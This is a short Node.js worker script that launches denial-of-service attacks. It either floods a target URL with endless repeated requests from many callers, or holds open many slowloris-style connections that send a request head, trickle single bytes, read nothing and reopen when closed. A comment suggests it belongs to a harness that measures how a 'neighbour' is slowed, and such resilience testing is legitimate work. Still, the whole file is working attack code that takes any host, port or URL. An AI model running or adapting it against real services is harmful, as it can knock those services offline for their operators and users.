import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';

// The attack that `workerData` says, until the thread is ended. In a thread of its own, so that its work does not count as the neighbour's waiting.
const { kind } = workerData;
if (kind === 'repeated') for (let count = 0; count < workerData.callers; count += 1) void callAgain(workerData);
else for (let count = 0; count < workerData.sockets; count += 1) hold(workerData);

/** Makes a request again and again, and drops the answers. */
async function callAgain({ url, method, headers, body }) {
  for (;;) {
    const answer = await fetch(url, { method, headers, body }).catch(() => null);
    await answer?.arrayBuffer().catch(() => undefined);
  }
}

/** Holds a connection that sends a head, then a byte now and then, and reads nothing; once it is ended it is opened again. */
function hold({ host, port, head, trickleMs, reopenMs }) {
  const socket = connect(port, host);
  socket.on('error', () => undefined);
  socket.write(head);
  const timer = trickleMs === null ? undefined : setInterval(() => socket.write('x'), trickleMs);
  socket.once('close', () => {
    clearInterval(timer);
    setTimeout(() => hold(workerData), reopenMs);
  });
}
